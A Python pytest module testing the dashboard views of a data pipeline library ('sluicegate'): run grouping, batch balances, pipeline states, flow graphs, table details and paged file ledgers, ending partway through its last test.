"""The dashboard of a pipeline: what they say of tables and files as runs leave them, and how much of it they read."""

from __future__ import annotations

import json
import shutil
import threading
import time
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from deltalake import CommitProperties, DeltaTable, write_deltalake

import sluicegate as sg
from sluicegate import api
from sluicegate.dashboard import (
    as_json,
    batches,
    days,
    find,
    flow_graph,
    landed,
    ledger_files,
    one_table,
    overview,
    personal,
    quarantined,
    run_details,
    runs,
    source,
    techniques,
)
from sluicegate.dashboard.batches import Balance, CommittedBatch, RuleCount
from sluicegate.dashboard.runs import DagRun, RunStep
from sluicegate.dashboard.source import Source
from sluicegate.definition import load
from sluicegate.errors import NotADeltaTable, PipelineMissing
from sluicegate.flow.thresholds import SMALL
from sluicegate.lake import log, tables
from sluicegate.lake.commits.commit_info import CommitStep
from sluicegate.landing import file_status, kafka_ledger, status_log
from sluicegate.landing.kafka_ledger import Partition, TopicOffsets
from sluicegate.landing.moves import archive
from sluicegate.monitor import event_log
from tests.conftest import Workspace
from tests.support.by_hand import records, taken_in
from tests.support.page_world import BEGAN, STEP, PageWorld

pytestmark = pytest.mark.unit

SILVER = "recordings_enriched"
NOW = BEGAN + timedelta(hours=1)
TWO_DAYS = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 4, tzinfo=UTC)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> PageWorld:
    """Three runs; nothing in this module changes it."""
    return PageWorld.at(tmp_path_factory.mktemp("views"), runs=3)


@pytest.fixture
def lake(world: PageWorld) -> Source:
    return Source(world.workspace.settings, patience=None)


def batch(number: int, table: str = "t", layer: str = "silver", **said: Any) -> CommittedBatch:
    return CommittedBatch(BEGAN + number * timedelta(minutes=1), layer, table, number, **said)


# --- batches and runs ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("strategy", "technique", "said", "text"),
    [
        ("partial", "partial", {}, ""),
        ("whole", "whole", {}, ""),
        ("whole", "whole", {"why": "the query was changed"}, "the query was changed"),
        ("partial", "whole", {"why": "it is new", "all_rows": 3}, "it is new"),
        ("partial", "whole", {"estimates": {"whole": 0.1}, "all_rows": 42},
         "the tables that it reads are small (42 rows): reading all of them costs less"),
        ("keys", "whole", {"estimates": {"whole": 0.1}, "all_rows": SMALL},
         f"the tables that it reads are small ({SMALL:,} rows): reading all of them costs less"),
        ("keys", "whole", {"estimates": {"whole": 9.0}, "all_rows": SMALL + 1},
         "the changes may affect any of its rows"),
        ("partial", "groups", {"estimates": {"groups": 1.0, "whole": 2.0, "partial": 3.0}, "all_rows": 10**6},
         "it was estimated at 1.0 s, and at 2.0 s by full recompute, 3.0 s by incremental"),
        ("partial", "restart", {"estimates": {"restart": 1.0, "partial": 0.1}},
         "its aggregate state was outdated and was rebuilt from all rows"),
        ("", "", {}, ""),
    ],
)  # fmt: skip
def test_a_batch_says_why_it_was_made_otherwise_than_planned(
    strategy: str, technique: str, said: dict[str, Any], text: str
) -> None:
    planned = "rows that come add to its groups"
    made = CommittedBatch(BEGAN, "gold", "t", 0, strategy=strategy, technique=technique, because=planned, **said)
    assert techniques.difference_reason(made) == text


def test_both_sides_of_a_balance_are_equal_or_not() -> None:
    assert Balance(10, None, 0, 5, 2, 1, 2).balanced is True
    assert Balance(10, None, 0, 5, 2, 1, 1).balanced is False
    assert Balance(None, written=5).balanced is None
    many = Balance(10, 25, 1, 20, 5)
    assert many.balanced is True
    assert (many + Balance(1, 2, 0, 2)) == Balance(11, 27, 1, 22, 5)
    # A refused batch, say, tells nothing of the rows that its records gave: each is one then.
    for both in (
        many + Balance(3, None, 0, 3),
        Balance(3, None, 0, 3) + many,
        Balance() + many + Balance(3, written=3),
    ):
        assert both == Balance(13, 28, 1, 23, 5)
        assert both.balanced is True
    assert RuleCount("r", 0, 0).rate is None


def test_the_newest_batches_are_read_from_the_newest_files(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    every = batches.newest_batches(lake, world.definition)
    assert [one.table for one in every[:3]] == ["device_counts", "daily_patient_avg", SILVER]
    assert every[2].balance == Balance(40, None, 0, 35, 3, 0, 2)
    assert every[2].rules[0] == RuleCount("valid_heartrate", 37, 3)
    for most in (len(every) - 1, len(every), len(every) + 1):
        monkeypatch.setattr(batches, "NEWEST", most)
        assert batches.newest_batches(lake, world.definition, batches.NEWEST) == every[:most]


def test_a_table_has_batches_that_the_newest_of_its_pipeline_lack(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    three = batches.table_batches(lake, world.definition, "silver", SILVER)
    assert [one.version for one in three] == [2, 1, 0]
    monkeypatch.setattr(batches, "NEWEST", 1)  # of all tables: the last one of gold
    monkeypatch.setattr(batches, "newest_batches", lambda *_: ())
    for most in (2, 3, 4):
        monkeypatch.setattr(batches, "OF_A_TABLE", most)
        found = batches.table_batches(Source(lake.settings), world.definition, "silver", SILVER)
        assert [one.balance for one in found] == [one.balance for one in three[:most]]


@pytest.mark.parametrize("step", [CommitStep.REJECT, CommitStep.CLEAR])
def test_a_rejected_batch_does_not_take_the_place_of_one_of_the_table(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch, step: CommitStep
) -> None:
    """Both tables count their versions from 0, and the events of the rejected rows have the table's name."""
    beside = replace(batch(90, layer="silver", table=SILVER), version=1, mode=step)
    monkeypatch.setattr(batches, "newest_batches", lambda *_: (beside,))
    found = batches.table_batches(lake, world.definition, "silver", SILVER)
    assert sorted(one.version for one in found if one.mode != step) == [0, 1, 2]


def test_batches_of_commands_are_of_one_run_until_a_longer_break_or_an_earlier_layer() -> None:
    layers = [batch(0, layer="bronze"), batch(1), batch(2, layer="gold")]
    assert [len(run.batches) for run in runs.group_batches(layers)] == [3]
    assert [len(run.batches) for run in runs.group_batches([*layers, batch(3, layer="bronze")])] == [1, 3]
    for more, together in ((timedelta(0), True), (timedelta(seconds=1), False)):
        later = replace(layers[2], time=layers[2].time + event_log.BREAK + more)
        assert (len(runs.group_batches([*layers, later])) == 1) is together
    of_dag = [replace(one, run_id="r", by_airflow=True) for one in layers]
    far = replace(of_dag[0], time=BEGAN + timedelta(days=1))
    assert [run.key for run in runs.group_batches([*of_dag, far])] == ["r"]


def test_airflow_knows_runs_that_changed_nothing_and_how_others_ended() -> None:
    own = batch(0, run_id="r", by_airflow=True)
    waiting = DagRun("q", "queued", "manual")
    known = DagRun("r", "failed", "scheduled", BEGAN, NOW, seconds={"t": 2.0})
    found = runs.group_batches([own], [waiting, known])
    assert [(run.key, run.state, len(run.batches)) for run in found] == [("q", "queued", 0), ("r", "failed", 1)]
    assert runs.choose_run(found, None) == found[0]  # it is about to begin
    assert runs.choose_run(found, "nowhere") is None
    idle, failed = DagRun("i", "success", "manual", NOW), DagRun("f", "failed", "manual", NOW - STEP)
    newest = runs.choose_run(runs.group_batches([own], [idle, failed]), None)
    assert newest is not None
    assert newest.run_id == "f", "a failure is not hidden behind an older run that changed a table"
    assert found[1].seconds == 3600


def test_a_wait_for_files_is_in_no_time_of_a_run(world: PageWorld, lake: Source) -> None:
    [run, *_] = runs.group_batches(batches.newest_batches(lake, world.definition))
    assert run.began is not None
    hour = timedelta(hours=1)
    waited = DagRun(run.run_id, "running", "scheduled", run.began - hour, waited=hour.total_seconds() - 5)
    view = run_details.run_details(lake, world.definition, [waited], run.run_id)
    assert view.until == {"bronze": 5.0, "silver": 25.0, "gold": 37.0}
    assert view.run.seconds_until(run.began + STEP) == STEP.total_seconds() + 5
    begun = DagRun(run.run_id, "queued", "scheduled")
    assert runs.PipelineRun("q", "q", "queued", "manual", None, None, (), begun).seconds_until(NOW) is None


@pytest.mark.parametrize(("written", "said"), [(70, False), (69, True), (130, False), (131, True)])
def test_a_run_is_unusual_above_a_share(world: PageWorld, lake: Source, written: int, said: bool) -> None:
    assert run_details.UNUSUAL == 0.3
    one = run_details.TableOfRun("silver", "t", Balance(written=written), (), None, 100.0)
    assert (one.unusual is not None) is said
    assert replace(one, usual=None).unusual is None


def test_a_run_is_compared_with_those_before_it(world: PageWorld, lake: Source) -> None:
    every = runs.group_batches(batches.newest_batches(lake, world.definition))
    view = run_details.run_details(lake, world.definition, (), every[0].key)
    assert [one.table for one in view.tables] == ["recordings_bronze", SILVER, "daily_patient_avg", "device_counts"]
    assert view.tables[1].usual == 35
    assert view.until == {"bronze": 0.0, "silver": 20.0, "gold": 32.0}  # from its first commit on
    assert view.before == every[1].key
    assert view.after is None
    assert view.compared == every[1]
    assert [one.before == every[1].balance(one.table) for one in view.tables] == [True] * 4
    assert every[0].began is not None
    idle = DagRun("idle", "success", "manual", every[0].began + timedelta(seconds=1), NOW)
    beside = run_details.run_details(lake, world.definition, [idle], "idle")
    assert (beside.before, beside.compared) == (every[0].key, every[0])
    first = run_details.run_details(lake, world.definition, (), every[-1].key)
    assert (first.compared, {one.before for one in first.tables}) == (None, {None})
    with pytest.raises(PipelineMissing):
        run_details.run_details(lake, world.definition, (), "nowhere")


# --- home and graph --------------------------------------------------------------------------------------------------


def state_of(lake: Source, dag_runs: list[DagRun], now: datetime = NOW) -> str:
    return overview.line(lake, "heart_rate", dag_runs, now).state


def test_a_pipeline_is_late_when_its_schedule_wanted_several_runs(world: PageWorld, lake: Source) -> None:
    ended = [DagRun("r", "success", "scheduled", BEGAN, BEGAN)]
    due = BEGAN + overview.LATE_AFTER * STEP + timedelta(minutes=1)
    assert state_of(lake, ended, due) == "fine"
    assert state_of(lake, ended, due + timedelta(seconds=1)) == "late"
    assert state_of(lake, [DagRun("n", "running", "manual", BEGAN), *ended], due + STEP) == "running"
    assert state_of(lake, [DagRun("n", "failed", "manual", NOW, NOW), *ended], due) == "failed"
    for step, state in ((RunStep("wait_for_files", "deferred"), "waiting"), (RunStep("bronze", "running"), "running")):
        begun = DagRun("n", "running", "scheduled", BEGAN, steps=(RunStep("check_request", "success"), step))
        assert state_of(lake, [begun, *ended], due) == state
    failed = DagRun("n", "failed", "manual", NOW, NOW, steps=(RunStep("silver", "failed", reason="s: no column x"),))
    assert overview.line(lake, "heart_rate", [failed], due).sentence == "its last run failed in silver: s: no column x"


def test_a_paused_pipeline_is_paused_unless_something_is_wrong_with_it(world: PageWorld, lake: Source) -> None:
    ended = [DagRun("r", "success", "scheduled", BEGAN, BEGAN)]
    late = BEGAN + 10 * STEP
    running, failed = DagRun("n", "running", "manual", BEGAN), DagRun("n", "failed", "manual", NOW, NOW)
    for dag_runs, state in ((ended, "paused"), ([running, *ended], "running"), ([failed, *ended], "failed")):
        [line] = overview.overview(lake, ["heart_rate"], {"heart_rate": dag_runs}, late, paused={"heart_rate"})
        assert (line.state, line.paused, line.needs_hand) == (state, True, state == "failed")
    [line] = overview.overview(lake, ["heart_rate"], {"heart_rate": ended}, late)
    assert (line.state, line.paused, line.quarantine, line.failed_run) == ("late", False, SILVER, "")


def test_pipelines_in_trouble_come_first(tmp_path: Path) -> None:
    made = Workspace(tmp_path, "good")
    made.define('name: good\nbronze: {x: {path: "${landing}/x", format: json}}\n')
    bad = tmp_path / "pipelines" / "bad"
    bad.mkdir()
    (bad / "pipeline.yaml").write_text("name: bad\nbrnze: {}\n")
    lines = overview.overview(Source(made.settings, None), ["good", "bad"], {}, NOW)
    assert [(line.name, line.state) for line in lines] == [("bad", "mistakes"), ("good", "never started")]
    assert "brnze" in lines[0].mistakes[0]
    assert "landing" in lines[1].sentence  # its folder is not there, as no data was sent yet
    former = DagRun("r", "success", "manual", BEGAN, BEGAN)
    assert overview.line(Source(made.settings, None), "good", [former], NOW).state == "broken", "it was there once"
    (tmp_path / "landing" / "x").mkdir(parents=True)
    empty = overview.line(Source(made.settings, None), "good", (), NOW)
    assert (empty.state, empty.tables, empty.runs) == ("never started", 1, ())
    made.land("x/a.json", '{"id": 1}')
    waiting = overview.line(Source(made.settings, None), "good", (), NOW)
    assert (waiting.state, waiting.backlog.files) == ("behind", 1)


def test_a_line_has_the_last_runs_and_the_quarantine(world: PageWorld, lake: Source) -> None:
    line = overview.line(lake, "heart_rate", (), NOW)
    assert (line.state, line.quarantined, line.trend) == ("fine", 9, (3, 3, 3))
    assert [point.entered for point in line.runs] == [42, 40, 40]


def test_a_graph_has_landing_tables_lookups_and_quarantine(world: PageWorld, lake: Source) -> None:
    graph = flow_graph.graph(lake, world.definition, ())
    edges = {(edge.source, edge.target): edge.kind for edge in graph.edges}
    assert edges["landing:recordings_bronze", "recordings_bronze"] == "stream"
    assert edges["recordings_bronze", SILVER] == "stream"
    assert edges["patients", SILVER] == "lookup"
    assert edges[SILVER, f"quarantine:{SILVER}"] == "quarantine"
    nodes = {node.key: node for node in graph.nodes}
    assert nodes[SILVER].balance == Balance(40, None, 0, 35, 3, 0, 2)
    assert nodes["patients"].balance is None  # this run left it as it is
    assert nodes[f"quarantine:{SILVER}"].rows == 9
    assert (nodes["daily_patient_avg"].technique, nodes["daily_patient_avg"].seconds) == ("partial", 1.4)
    assert {node.state for node in graph.nodes if node.kind == "silver"} == {"up to date"}
    first = flow_graph.graph(lake, world.definition, (), graph.runs[-1].key)
    assert {node.key: node for node in first.nodes}["patients"].balance == Balance(2, None, 0, 2)


def test_a_graph_of_an_earlier_run_has_nothing_of_what_tables_have_today(world: PageWorld, lake: Source) -> None:
    newest = flow_graph.graph(lake, world.definition, ())
    assert not newest.past
    assert not flow_graph.graph(lake, world.definition, (), newest.runs[0].key).past
    assert not flow_graph.graph(lake, world.definition, (), "unknown").past, "no run was chosen"
    began = world.began + STEP  # its second run, which left patients as they were
    failed = DagRun("scheduled__" + began.isoformat(), "failed", "scheduled", began, steps=(RunStep("gold", "failed"),))
    graph = flow_graph.graph(lake, world.definition, [failed], failed.run_id)
    assert graph.past
    nodes = {node.key: node for node in graph.nodes}
    assert {node.rows for node in graph.nodes} == {None}
    assert (nodes[SILVER].state, nodes["patients"].state) == ("written", "unchanged")
    assert nodes["patients"].changed is None
    assert nodes[SILVER].changed == began + timedelta(seconds=40)
    at_work = flow_graph.graph(lake, world.definition, [replace(failed, state="running")], failed.run_id)
    assert not at_work.past, "it is not over"
    assert {node.key: node for node in at_work.nodes}[SILVER].rows is not None


def test_a_graph_has_what_a_run_under_way_has_committed_and_which_of_its_tasks_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = PageWorld.at(tmp_path, runs=1)
    monkeypatch.setattr("tests.support.page_world.event_log.copy_events", lambda *_: None)  # no job has ended
    run_id = made.run(records=30)
    lake = Source(made.workspace.settings, None)

    def nodes(*under_way: DagRun) -> dict[str, flow_graph.Node]:
        graph = flow_graph.graph(lake, made.definition, under_way)
        assert all(run.batches == () for run in graph.runs)  # a page lists them, and no more
        return {node.key: node for node in graph.nodes}

    steps = (RunStep("bronze", "success"), RunStep("silver", "running", BEGAN), RunStep("gold", "not started"))
    running = DagRun(run_id, "running", "scheduled", BEGAN + STEP, steps=steps)
    found = nodes(running)
    assert found["recordings_bronze"].balance == Balance(None, written=30)
    assert found[SILVER].balance == Balance(30, None, 0, 25, 3, 0, 2)
    assert {name: (found[name].state, found[name].step) for name in ("recordings_bronze", SILVER, "device_counts")} == {
        "recordings_bronze": ("up to date", "success"), SILVER: ("running", "running"),
        "device_counts": ("up to date", "not started"),
    }  # fmt: skip
    assert found["patients"].balance is None  # it has not come to that one, or it has nothing to do
    view = run_details.run_details(lake, made.definition, [running], run_id)
    assert [(one.table, one.balance.written) for one in view.tables][:2] == [("recordings_bronze", 30), (SILVER, 25)]
    # One job for all layers, and a run that has ended.
    assert nodes(replace(running, steps=(RunStep("run", "running", BEGAN),)))["device_counts"].step == "running"
    whole = tuple(replace(step, state="success") for step in steps)
    ended = nodes(replace(running, state="success", steps=whole))
    assert (ended[SILVER].step, ended[SILVER].state) == ("success", "up to date")


def test_a_table_that_waits_for_another_is_neither_up_to_date_nor_behind(tmp_path: Path) -> None:
    made = Workspace(tmp_path)
    (tmp_path / "landing" / "things").mkdir(parents=True)
    joined = "SELECT r.* FROM STREAM(things) AS r LEFT JOIN names ON names.id = r.id"
    made.define(
        'name: heart_rate\nbronze:\n  things: {path: "${landing}/things", format: json}\nsilver:\n'
        '  names: {sql: "SELECT * FROM STREAM(things) AS r"}\n' + f'  s: {{sql: "{joined}"}}\n'
    )
    records(made, "things", [1])
    for table in ("names", "s"):
        taken_in(made, table, [1], run_id="r")
    shutil.rmtree(made.uri("names"))
    said = {one.table: one.state for one in api.status(made.definition).tables}
    nodes = {one.key: one for one in flow_graph.graph(Source(made.settings, None), made.definition, ()).nodes}
    assert said["s"] == nodes["s"].sentence == "it joins names, which has no rows yet"
    assert (nodes["s"].state, nodes["names"].state) == ("waits", "no table")


def test_of_kafka_only_a_run_can_find_out_what_waits_and_ranges_without_an_offset_are_none(tmp_path: Path) -> None:
    made = Workspace(tmp_path, "orders")
    kafka = "{bootstrap_servers: nowhere:1, topic: o}"
    made.define(f"name: orders\nbronze:\n  taken: {{format: kafka, kafka: {kafka}}}\n")
    of, uri = made.definition.bronze["taken"].kafka, made.lake.ledger("taken")
    assert of is not None
    begins = {Partition("o", 0): 0, Partition("o", 1): 5}
    kafka_ledger.enter("taken", of, uri, TopicOffsets({}, begins, {Partition("o", 0): 3, Partition("o", 1): 5}))
    taken_in(made, "taken", [1, 2, 3], run_id="r")
    file_status.copy(made.lake, "taken")
    lake = Source(made.settings, None)
    assert api.status(made.definition).tables[0].state == "as its last run left it"
    line = overview.line(lake, "orders", (), NOW)
    assert (line.state, line.backlog.behind) == ("fine", ())
    nodes = {one.key: one.state for one in flow_graph.graph(lake, made.definition, ()).nodes}
    assert set(nodes.values()) == {"as its last run left it"}
    view = landed.file_details(lake, made.definition, "taken")
    (entry,) = api.files(made.definition, "taken").to_pylist()
    assert [(file.path, file.state) for file in view.files] == [(entry["path"], entry["state"])]
    assert (view.entries, view.counts) == (1, {entry["state"]: 1})


def test_a_table_that_reads_a_delta_table_has_versions_in_place_of_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made, source_uri = Workspace(tmp_path, "copies"), str(tmp_path / "elsewhere")
    for number in range(4):
        write_deltalake(source_uri, pa.table({"x": [number]}), mode="append")
    made.define(f"name: copies\nbronze:\n  copied: {{path: '{source_uri}', format: delta}}\n")
    own = tables.table_id(DeltaTable(source_uri))
    for until in range(3):
        records(made, "copied", [1], source=own, until=until, mode="incremental", layer="bronze", table="copied")
    every = [(one["chunk"], one["state"]) for one in api.files(made.definition, "copied").to_pylist()]
    assert every == [(0, "ingested"), (1, "ingested"), (2, "ingested"), (3, "waiting")]
    lake = Source(made.settings, None)
    for most, pages in ((1, 4), (2, 2), (4, 1), (5, 1)):
        monkeypatch.setattr(ledger_files, "PAGE", most)
        found: list[tuple[int | None, str]] = []
        before, count = None, 0
        while count == 0 or before is not None:
            view = landed.file_details(lake, made.definition, "copied", before=before)
            found += [(file.batch, file.state) for file in view.files]
            before, count = view.older, count + 1
        assert (found, count, view.entries) == (every[::-1], pages, 4)
    view = landed.file_details(lake, made.definition, "copied", "waiting")
    assert [file.batch for file in view.files] == [3]
    assert view.counts == {"waiting": 1, "ingested": 3, "replaced": 0}


def test_a_refused_batch_does_not_change_a_table(tmp_path: Path) -> None:
    made = PageWorld.at(tmp_path, runs=1)
    before = one_table.table_details(Source(made.workspace.settings, None), made.definition, SILVER)
    facts = {"layer": "silver", "table": SILVER, "step": CommitStep.REJECT, "run_id": "later"}
    said = CommitProperties(custom_metadata={"userMetadata": json.dumps({log.METADATA: facts})})
    write_deltalake(f"{made.workspace.uri(SILVER)}_rejected", pa.table({"x": [1, 2]}), commit_properties=said)
    lake = Source(made.workspace.settings, None)
    after = one_table.table_details(lake, made.definition, SILVER)
    assert (after.rejected, after.history[-1].mode, len(after.history)) == (
        2,
        CommitStep.REJECT,
        len(before.history) + 1,
    )
    of_status = next(one for one in api.status(made.definition).tables if one.table == SILVER)
    assert after.changed == before.changed == of_status.changed
    graph = flow_graph.graph(lake, made.definition, ())
    assert next(one for one in graph.nodes if one.key == SILVER).state == "failed"


def test_a_pipeline_is_opened_once_and_several_tables_at_a_time(
    world: PageWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[str] = []
    own, both = tables.table_at, threading.Barrier(2, timeout=30)

    def counted(uri: str, version: int | None = None) -> Any:
        opened.append(uri)
        if len(opened) <= 2:
            both.wait()  # for another one that is being opened
        return own(uri, version)

    monkeypatch.setattr(tables, "table_at", counted)
    lake = Source(world.workspace.settings, patience=30.0)
    graph = flow_graph.graph(lake, world.definition, ())
    assert graph.backlog.since is not None  # landing and the offsets of all tables were looked at, too
    own_tables = [uri for uri in opened if "/_ledger/" not in uri]
    assert sorted(own_tables) == sorted(set(own_tables))


def test_commits_count_once_whether_the_event_log_has_them_or_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = PageWorld.at(tmp_path, runs=1)
    with pytest.MonkeyPatch.context() as killed:  # before the job had copied its commits
        killed.setattr("tests.support.page_world.event_log.copy_events", lambda *_: None)
        made.run()
    settings = made.workspace.settings
    lake = Source(settings, None)
    before = batches.newest_batches(lake, made.definition)
    assert len(before) == 4 + 6  # the table of patients is made once
    monkeypatch.setattr(batches, "OF_A_TABLE", 1)  # as where the event log alone has as many as are shown
    assert [one.version for one in batches.table_batches(lake, made.definition, "silver", SILVER)] == [1]
    said = api.history(load("heart_rate", settings), newest=100).to_pylist()
    assert len(said) == len(before)
    assert [(row["table"], row["version"], row["written"]) for row in reversed(said)] == [
        (one.table, one.version, one.balance.written) for one in before
    ]
    event_log.copy_events(made.definition, made.workspace.lake)
    assert batches.newest_batches(lake, made.definition) == before
    assert api.history(load("heart_rate", settings), newest=100).to_pylist() == said
    for count in (1, 4, 9, 10, 11):
        assert event_log.newest_rows(made.workspace.lake, None, count).to_pylist() == said[-count:]
    of_one = [row for row in said if row["table"] == "patients"]
    assert event_log.newest_rows(made.workspace.lake, "patients", 5).to_pylist() == of_one


def test_a_graph_says_what_was_planned_for_a_table_and_what_a_run_did(world: PageWorld, lake: Source) -> None:
    node = next(one for one in flow_graph.graph(lake, world.definition, ()).nodes if one.key == "daily_patient_avg")
    assert (node.strategy, node.technique, node.differs) == ("partial", "partial", "")
    assert node.because == "rows that come add to its groups"


def test_a_tag_changes_with_the_facts_and_not_with_the_moment() -> None:
    waiting = overview.PipelineBacklog("2 files wait", 2, since=BEGAN)
    assert as_json.tag([waiting]) == as_json.tag([replace(waiting, since=NOW)])
    others = [replace(waiting, files=3), replace(waiting, since=None), replace(waiting, error="x")]
    assert len({as_json.tag(one) for one in (waiting, *others)}) == 4
    assert as_json.tag({"a": (BEGAN, float("nan"))}).startswith('"')


def test_a_table_that_cannot_be_read_does_not_take_the_others_with_it(tmp_path: Path) -> None:
    broken = PageWorld.at(tmp_path, runs=1)
    uri = Path(broken.workspace.lake.table("gold", "device_counts"))
    for file in (uri / "_delta_log").iterdir():
        file.unlink()
    (uri / "_delta_log").rmdir()
    lake = Source(broken.workspace.settings, None)
    with pytest.raises(NotADeltaTable):
        lake.table(str(uri))
    nodes = {node.key: node for node in flow_graph.graph(lake, broken.definition, ()).nodes}
    assert (nodes["device_counts"].state, nodes[SILVER].state) == ("broken", "up to date")
    assert "not a Delta table" in one_table.table_details(lake, broken.definition, "device_counts").problem


def test_a_table_is_wide_and_another_has_a_damaged_log(tmp_path: Path) -> None:
    made = PageWorld.at(tmp_path, runs=0)
    made.wide(columns=1_000)
    settings = made.workspace.settings
    lake, pipeline = Source(settings, None), load("wide", settings)
    wide = one_table.table_details(lake, pipeline, "sheet")
    assert (len(wide.columns), wide.rows) == (1_003, 3)
    torn = one_table.table_details(lake, pipeline, "torn").problem
    assert torn.startswith("torn cannot be read")
    states = {node.key: node.state for node in flow_graph.graph(lake, pipeline, ()).nodes}
    assert (states["sheet"], states["torn"]) == ("up to date", "broken")


# --- a table ---------------------------------------------------------------------------------------------------------


def test_a_table_with_columns_rules_history_and_query(world: PageWorld, lake: Source) -> None:
    view = one_table.table_details(lake, world.definition, SILVER)
    assert (view.rows, view.version, view.files, view.small_files, view.quarantined) == (105, 2, 3, 3, 9)
    columns = {column.name: column for column in view.columns}
    assert (columns["mrn"].pii, columns["name"].pii, columns["name"].rules) == (True, True, ("known_patient",))
    assert (columns["heartrate"].kind, columns["_pos"].of_engine) == ("DOUBLE", True)
    assert [(rule.name, rule.failed) for rule in view.rules] == [("valid_heartrate", 9), ("known_patient", 0)]
    assert view.upstream == (("recordings_bronze", "stream"), ("patients", "lookup"))
    assert view.downstream == ("daily_patient_avg",)
    assert "STREAM(recordings_bronze)" in view.sql
    assert [one.version for one in view.history] == [0, 1, 2]
    assert view.sample is not None
    assert len(view.sample.rows) == one_table.SAMPLE_ROWS
    assert set(view.sample.hidden) == {"mrn", "name"}
    assert one_table.table_details(lake, world.definition, SILVER, rows=False).sample is None
    with pytest.raises(PipelineMissing):
        one_table.table_details(lake, world.definition, "nowhere")


def test_a_bronze_table_has_the_versions_that_changed_its_columns(tmp_path: Path) -> None:
    made = Workspace(tmp_path)
    made.define('name: heart_rate\nbronze: {x: {path: "${landing}/x", format: json}}\n')
    write_deltalake(made.uri("x"), pa.table({"a": [1]}))
    write_deltalake(made.uri("x"), pa.table({"a": [1], "b": [2]}), mode="append", schema_mode="merge")
    view = one_table.table_details(Source(made.settings, None), made.definition, "x")
    assert [(one.version, one.changes) for one in view.drift] == [(1, "b BIGINT came"), (0, "the first columns")]


@pytest.mark.parametrize("extra", [-1, 0, 1])
def test_of_many_columns_a_sample_has_some(tmp_path: Path, extra: int) -> None:
    made = Workspace(tmp_path)
    made.define('name: heart_rate\nbronze: {wide: {path: "${landing}/x", format: json}}\n')
    width = one_table.SAMPLE_COLUMNS + extra
    write_deltalake(made.uri("wide"), pa.table({f"c{n:04}": [1] for n in range(width)}))
    view = one_table.table_details(Source(made.settings), made.definition, "wide")
    assert view.sample is not None
    assert (len(view.columns), view.sample.left_out) == (width, max(0, extra))


# --- files -----------------------------------------------------------------------------------------------------------


def test_files_newest_first_and_a_page_at_a_time(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    def page(**which: Any) -> tuple[list[str], int | None]:
        view = landed.file_details(Source(lake.settings, None), world.definition, "recordings_bronze", **which)
        return [Path(file.path).name for file in view.files], view.older

    assert page() == (["0002.json", "0001.json", "0000.json"], None)
    for most, first, older in ((2, ["0002.json", "0001.json"], 2), (3, ["0002.json", "0001.json", "0000.json"], None)):
        monkeypatch.setattr(ledger_files, "PAGE", most)
        assert page() == (first, older)
    monkeypatch.setattr(ledger_files, "PAGE", 1)
    assert page() == (["0002.json"], 3)
    assert page(before=3) == (["0001.json"], 2)
    assert page(before=2) == (["0000.json"], None)
    view = landed.file_details(lake, world.definition, "recordings_bronze")
    assert (view.files[0].state, view.files[0].rows, view.entries) == ("ingested", 40, 3)


def test_up_to_FEW_entries_all_states_are_counted(
    world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
) -> None:
    for few, ingested in ((2, None), (3, 3), (4, 3)):
        monkeypatch.setattr(ledger_files, "FEW", few)
        view = landed.file_details(Source(lake.settings, None), world.definition, "recordings_bronze")
        assert view.counts["ingested"] == ingested
        assert view.counts["waiting"] == 0


def entries(made: Workspace, chunk: int, action: str, *names: str) -> None:
    """Entries of a ledger, and their statuses as a run leaves them."""
    time = pa.array([BEGAN] * len(names), pa.timestamp("us", "UTC"))
    rows = pa.table({"path": list(names), "size": [1] * len(names), "modification_time": time,
                     "action": [action] * len(names), "chunk": [chunk] * len(names), "discovered": time})  # fmt: skip
    write_deltalake(made.lake.ledger("things"), rows, mode="append")
    became = [{"path": name, "chunk": chunk, "rows": 1, "corrupt": 0, "rescued": 0, "version": chunk, "ingested": BEGAN,
               "error": "no JSON" if name.startswith("bad") else None, "table_id": made.table_id}  # type: ignore[attr-defined]
              for name in names]  # fmt: skip
    write_deltalake(made.lake.file_status("things"), pa.Table.from_pylist(became, status_log.OUTCOME), mode="append")


def test_states_of_a_page_are_those_of_the_whole_ledger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = Workspace(tmp_path)
    made.define('name: heart_rate\nbronze: {things: {path: "${landing}/things", format: json}}\n')
    (tmp_path / "landing" / "things").mkdir(parents=True)
    write_deltalake(made.uri("things"), pa.table({"_chunk": [0], "_pos": [0]}))
    lake = Source(made.settings, None)
    made.table_id = str(lake.table(made.uri("things")).metadata().id)  # type: ignore[attr-defined,union-attr]
    entries(made, 0, "read", "a", "b")
    entries(made, 1, "read", "c", "bad")
    entries(made, 2, "read", "a")  # another file of that name
    entries(made, 3, "replace", "a", "c")
    entries(made, 4, "skip", "d")
    entries(made, 0, "read", "e")
    ledger_id = str(lake.table(made.lake.ledger("things")).metadata().id)  # type: ignore[union-attr]
    moved = {"path": "e", "size": 1, "modification_time": BEGAN, "mode": "MOVE", "place": "/away/e", "archived": BEGAN}
    rows = pa.Table.from_pylist([{**moved, "ledger_id": ledger_id}], archive.ARCHIVE)
    write_deltalake(made.lake.archive("things"), rows, mode="append")
    entries(made, 5, "replace", "/away/e")  # read again by its address in the archive
    entries(made, 6, "read", "d")
    every = {(row["path"], row["chunk"]): row["state"] for row in file_status.statuses(made.lake, "things").to_pylist()}
    assert every["a", 0] == "ingested"
    assert every["a", 2] == every["c", 1] == every["e", 0] == every["d", 4] == "replaced"
    monkeypatch.setattr(ledger_files, "PAGE", 1)
    found: dict[tuple[str, int | None], str] = {}
    before: int | None = None
    for _ in range(7):
        view = landed.file_details(lake, made.definition, "things", before=before)
        found |= {(file.path, file.batch): file.state for file in view.files}
        before = view.older
